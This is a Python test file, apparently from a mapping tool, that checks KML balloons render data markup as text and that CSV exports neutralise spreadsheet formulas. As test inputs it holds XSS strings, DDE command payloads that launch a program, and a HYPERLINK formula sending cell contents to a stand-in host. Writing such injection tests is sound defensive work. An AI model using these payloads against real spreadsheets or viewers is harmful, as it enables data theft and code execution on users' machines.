"""Outputs are safe by construction (issue 16 item 4): KML balloons show markup from the data as
text (checked by rendering the descriptions as HTML), and CSV cells from the data never run as
spreadsheet formulas."""

from __future__ import annotations

import csv
import io
import json
import shutil
import subprocess
import xml.etree.ElementTree as ET
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import geopandas as gpd
import pytest
from shapely.geometry import Point, box

from gridtool.maps import gis
from gridtool.routing.export import KML_NS, write_kml, write_stops_csv

from .maps_data import XSS, XSS_IMG, make_project

#: Texts a spreadsheet program would evaluate if they were typed into a cell.
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
#: Markup a KML viewer would run if descriptions were HTML from the data.
MARKUP = [XSS, XSS_IMG, '<a href="javascript:alert(1)">点</a>', "]]><script>alert(2)</script>",
          "&lt;b&gt;already escaped&lt;/b&gt;"]


class _Balloon(HTMLParser):
    """What a viewer builds from a description: its elements and its visible text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attrs: list[tuple[str, str | None]] = []
        self.text = ""

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs += attrs

    def handle_startendtag(self, tag, attrs):
        self.handle_starttag(tag, attrs)

    def handle_data(self, data):
        self.text += data


def _render(description: str) -> _Balloon:
    b = _Balloon()
    b.feed(description)
    b.close()
    return b


def _descriptions(kml_bytes: bytes) -> list[str]:
    root = ET.fromstring(kml_bytes)
    return [d.text or "" for d in root.iter(f"{{{KML_NS}}}description")]


def _hostile_project():
    p = make_project()
    v = p.layers["villages"].gdf
    v["name"] = [MARKUP[2], MARKUP[3]]
    g = p.layers["grids"].gdf
    g["village"] = [MARKUP[2], MARKUP[2], MARKUP[3], MARKUP[4]]
    g["code"] = [XSS_IMG + "-01", "A-02", "A-03", "A-04"]
    s = p.layers["special_grids"].gdf
    s["name"], s["category"] = XSS, MARKUP[3]
    st = p.layers["route_stops"].gdf
    st["place"] = [XSS_IMG, XSS, MARKUP[2], MARKUP[3], MARKUP[4]]
    st["window"] = [XSS, "", "", "", ""]
    p.layers["routes"].gdf["station"] = [XSS, MARKUP[3]]
    return p


def _check_balloons(descriptions: list[str], must_show: list[str]) -> None:
    assert descriptions
    shown = ""
    for d in descriptions:
        b = _render(d)
        assert set(b.tags) <= {"b", "br"}, (b.tags, d)  # only gridtool's own markup
        assert not b.attrs, d  # no attribute (onerror, href …) at all
        shown += b.text + "\n"
    for text in must_show:
        assert text in shown, text  # the data shows, character for character, as text


def test_gis_kml_descriptions_render_data_markup_as_text(tmp_path):
    p = _hostile_project()
    kml = tmp_path / "网格.kml"
    gis.write_kml(p, kml)
    raw = kml.read_bytes()
    assert b"<![CDATA[" in raw and b"<script>" not in raw.replace(b"&lt;script&gt;", b"")
    descs = _descriptions(raw)
    _check_balloons(descs, [XSS, XSS_IMG, MARKUP[2], MARKUP[3], MARKUP[4]])
    # names are text: XML-escaped by the serializer, read back exactly
    root = ET.fromstring(raw)
    names = [n.text for n in root.iter(f"{{{KML_NS}}}name")]
    assert XSS_IMG + "-01" in names and any(XSS in (n or "") for n in names)
    # every placemark style shows only the (escaped) description in its balloon
    for st in root.iter(f"{{{KML_NS}}}Style"):
        assert st.find(f"{{{KML_NS}}}BalloonStyle/{{{KML_NS}}}text").text == "$[description]"
    # the KMZ holds the same document
    kmz = tmp_path / "网格.kmz"
    gis.write_kml(p, kmz)
    inner = zipfile.ZipFile(kmz).read("doc.kml")
    _check_balloons(_descriptions(inner), [XSS, XSS_IMG])
    # GDAL still reads it (QGIS users)
    import pyogrio
    lyr = pyogrio.read_dataframe(kml, layer="巡逻点位 route_stops")
    assert len(lyr) == 5 and XSS in lyr["场所"].tolist()  # gridtool's fields in Chinese (FIELD_ZH)


def test_route_kml_descriptions_render_data_markup_as_text(tmp_path):
    p = _hostile_project()
    out = write_kml(tmp_path / "r.kml", p.layers["route_stops"].gdf, p.layers["routes"].gdf, name=XSS)
    raw = out.read_bytes()
    root = ET.fromstring(raw)
    assert root.find(f"{{{KML_NS}}}Document/{{{KML_NS}}}name").text == XSS
    _check_balloons(_descriptions(raw), [XSS_IMG, XSS, MARKUP[2], MARKUP[3], MARKUP[4]])
    assert len(_descriptions(raw)) == 5 + 2  # every stop and both route lines


@pytest.mark.skipif(shutil.which("chromium") is None, reason="headless chromium not installed")
def test_kml_balloons_in_a_browser_build_no_element_from_the_data(tmp_path):
    """Each description is put into a page with innerHTML, as a viewer's balloon does; the page
    records which elements appeared and whether any handler ran."""
    p = _hostile_project()
    descs = _descriptions(gis.kml_document(p)[0])
    descs += _descriptions(write_kml(tmp_path / "r.kml", p.layers["route_stops"].gdf,
                                     p.layers["routes"].gdf).read_bytes())
    page = tmp_path / "balloons.html"
    page.write_text(
        "<!doctype html><html><body><script>window.__xss = 0;</script><div id=out></div><script>"
        f"const descs = {json.dumps(descs)};"
        "const out = document.getElementById('out');"
        "for (const d of descs) { const div = document.createElement('div'); div.innerHTML = d; out.appendChild(div); }"
        "const tags = new Set([...out.querySelectorAll('#out > div *')].map(e => e.tagName.toLowerCase()));"
        "setTimeout(() => { document.body.setAttribute('data-tags', [...tags].sort().join(','));"
        "document.body.setAttribute('data-xss', String(window.__xss)); "
        "document.body.setAttribute('data-text', out.textContent.length); }, 300);"
        "</script></body></html>", encoding="utf-8")
    r = subprocess.run(["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--virtual-time-budget=2000",
                        "--dump-dom", page.as_uri()], capture_output=True, text=True, timeout=120, check=False)
    dom = r.stdout
    assert 'data-tags="b,br"' in dom and 'data-xss="0"' in dom, dom[-600:]
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in dom  # the village name, shown as text


def _hostile_stops():
    p = make_project()
    st = p.layers["route_stops"].gdf.copy()
    st["place"] = FORMULAS[:5]
    st["station"] = [FORMULAS[5]] * 5
    st["category"] = ["@school", "school", "school", "school", "school"]
    return st


def _read_csv(path: Path) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def _no_formula_cells(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), repr(cell)


def test_patrol_stops_csv_writes_formulas_as_text(tmp_path):
    st = _hostile_stops()
    rows = _read_csv(write_stops_csv(tmp_path / "patrol-stops.csv", st))
    _no_formula_cells(rows)
    header = rows[0]
    places = [r[header.index("地点")] for r in rows[1:]]
    assert places == ["'" + f for f in FORMULAS[:5]]  # the text is kept, behind the apostrophe
    assert [r[header.index("站点")] for r in rows[1:]] == ["'" + FORMULAS[5]] * 5
    assert [r[header.index("顺序")] for r in rows[1:]] == ["1", "2", "3", "1", "2"]  # numbers stay numbers
    lon = float(rows[1][header.index("经度")])
    assert 100 < lon < 115


def test_shapefile_fields_csv_writes_formula_field_names_as_text(tmp_path):
    p = make_project()
    g = p.layers["grids"].gdf
    p.layers["grids"].gdf = g.rename(columns={"note": "=1+1", "status": "@cmd"})
    gis.write_shapefiles(p, tmp_path / "shp", roles=["grids"], lang="en")
    rows = _read_csv(tmp_path / "shp" / "fields.csv")
    _no_formula_cells(rows)
    assert ["grids", "'=1+1"] == rows[[r[1] for r in rows].index("'=1+1")][:2]
    # the Chinese table (图层文件, 图层名称, 项目字段, Shapefile字段) likewise
    gis.write_shapefiles(p, tmp_path / "shp-zh", roles=["grids"], lang="zh")
    rows = _read_csv(tmp_path / "shp-zh" / "fields.csv")
    _no_formula_cells(rows)
    assert rows[[r[2] for r in rows].index("'=1+1")][0] == "grids"


def test_coverage_villages_csv_writes_formula_names_as_text(tmp_path):
    from gridtool import cli

    from .test_routing_graph import GK108, X0, Y0, town
    t = town()
    gpkg = tmp_path / "town.gpkg"
    hh = gpd.GeoDataFrame({"hh": [3, 4, 5, 6]}, geometry=[Point(X0 + 50, Y0 + 50), Point(X0 + 350, Y0 + 50),
                                                          Point(X0 + 50, Y0 + 350), Point(X0 + 350, Y0 + 350)],
                          crs=GK108)
    villages = gpd.GeoDataFrame({"name": [FORMULAS[0], FORMULAS[2]], "code": ["500101001001", "500101001002"]},
                                geometry=[box(X0 - 10, Y0 - 10, X0 + 200, Y0 + 410),
                                          box(X0 + 200, Y0 - 10, X0 + 410, Y0 + 410)], crs=GK108)
    layers = {"roads": t["roads"], "stations": t["stations"], "households": hh, "villages": villages}
    for role, gdf in layers.items():
        gdf.drop(columns=[c for c in ("src_id",) if c in gdf]).to_file(gpkg, layer=role, driver="GPKG")
    parser = cli.build_parser()
    args = parser.parse_args(["coverage", *sum(([f"--{r}", f"{gpkg}:{r}"] for r in layers), []),
                              "--minutes", "5", "--out", str(tmp_path / "cov")])
    assert args.func(args) == 0
    rows = _read_csv(tmp_path / "cov" / "coverage-5min-villages.csv")
    _no_formula_cells(rows)
    names = {r[rows[0].index("村（社区）")] for r in rows[1:]}
    assert names == {"'" + FORMULAS[0], "'" + FORMULAS[2]}
